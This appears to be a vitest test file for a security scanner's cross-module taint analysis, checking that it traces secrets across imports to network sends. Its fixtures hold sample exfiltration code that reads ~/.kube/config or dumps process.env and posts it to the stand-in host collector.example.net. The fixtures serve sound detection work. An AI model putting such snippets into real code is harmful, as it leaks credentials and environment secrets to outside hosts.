import { describe, expect, it } from 'vitest';
import type { FileFacts } from '../../src/analysis/extract.js';
import type { Lang } from '../../src/analysis/facts.js';
import { DerivedFacts } from '../../src/model/derived.js';
import type { ScanModel } from '../../src/model/model.js';
import { joinedBehaviours, resolveModule } from '../../src/model/module-flows.js';
import { factsOf } from '../support/code.js';

/**
 * The join across modules (src/model/module-flows.ts): a caller's records meet the callee's summary in
 * the file its import resolves to. The model here is only what the join reads: files and their facts.
 */

async function modelOf(files: Record<string, string>): Promise<ScanModel> {
  const facts = new Map<string, FileFacts>();
  for (const [path, text] of Object.entries(files)) {
    const lang: Lang = path.endsWith('.py') ? 'python' : path.endsWith('.ts') ? 'typescript' : 'javascript';
    facts.set(path, (await factsOf(lang, text)) as FileFacts);
  }
  return {
    files: { isFile: (p: string) => facts.has(p) },
    facts: async (p: string) => facts.get(p),
    derived: new DerivedFacts(),
  } as unknown as ScanModel;
}

const SECRET_READER =
  'import os\n\ndef pull():\n    return open(os.path.expanduser("~/.kube/config")).read()\n';

describe('module resolution', () => {
  it('finds Python modules beside the script, in packages and up relative imports', async () => {
    const model = await modelOf({ 's/a.py': '', 's/pkg/__init__.py': '', 's/pkg/b.py': '', 's/x.js': '' });
    expect(resolveModule(model, 's/main.py', 'python', 'a')).toBe('s/a.py');
    expect(resolveModule(model, 's/main.py', 'python', 'pkg')).toBe('s/pkg/__init__.py');
    expect(resolveModule(model, 's/pkg/c.py', 'python', '.b')).toBe('s/pkg/b.py');
    expect(resolveModule(model, 's/pkg/c.py', 'python', '..a')).toBe('s/a.py');
    expect(resolveModule(model, 's/main.py', 'python', 'requests')).toBeUndefined();
    expect(resolveModule(model, 's/main.ts', 'javascript', './x.js')).toBe('s/x.js');
  });
});

describe('joined behaviours', () => {
  it('merges what an imported function returns into the send that carries it', async () => {
    const model = await modelOf({
      'k/kube.py': SECRET_READER,
      'k/main.py':
        'import requests\nfrom kube import pull\n\nrequests.post("https://collector.example.net", data=pull())\n',
    });
    const joined = await joinedBehaviours(model, 'k/main.py');
    const [send] = [...joined.replaced.values()];
    expect(send).toMatchObject({ kind: 'send', data: { taints: expect.arrayContaining(['secret']) } });
    expect(send?.across?.[0]).toMatchObject({ path: 'k/kube.py', note: 'pull() returns it' });
  });

  it('adds the sink a parameter reaches in another module, located at the call', async () => {
    const model = await modelOf({
      'j/lib/net.ts':
        'export async function post(body: string) {\n  await fetch("https://collector.example.net", { method: "POST", body });\n}\n',
      'j/lib/index.ts': 'export { post } from "./net";\n',
      'j/main.ts': 'import { post } from "./lib";\nawait post(JSON.stringify(process.env));\n',
    });
    const { added } = await joinedBehaviours(model, 'j/main.ts');
    expect(added).toHaveLength(1);
    expect(added[0]).toMatchObject({ kind: 'send', at: { startLine: 2 }, data: { secret: 'env-all' } });
    expect(added[0]?.across?.[0]?.path).toBe('j/lib/net.ts');
  });

  it('follows a wrapper three modules deep and stops at a cycle', async () => {
    const model = await modelOf({
      'c/a.py': SECRET_READER,
      'c/b.py': 'from a import pull\nfrom c import loop\n\ndef wrap():\n    return {"cfg": pull()}\n',
      'c/c.py':
        'import urllib.request\nfrom b import wrap\n\ndef loop():\n    return wrap()\n\nurllib.request.urlopen("https://collector.example.net", data=str(loop()).encode())\n',
    });
    const { replaced } = await joinedBehaviours(model, 'c/c.py');
    expect([...replaced.values()][0]).toMatchObject({ data: { secret: 'kube-config' } });
  });

  it('joins nothing for values that carry no taint', async () => {
    const model = await modelOf({
      'n/cfg.py': 'def region():\n    return "eu-west-1"\n',
      'n/send.py':
        'import requests\n\ndef ship(x):\n    requests.post("https://collector.example.net", data=x)\n',
      'n/main.py':
        'import requests\nfrom cfg import region\nfrom send import ship\n\nrequests.post("https://collector.example.net", data=region())\nship("weekly report")\n',
    });
    const joined = await joinedBehaviours(model, 'n/main.py');
    expect(joined.replaced.size + joined.added.length).toBe(0);
  });
});
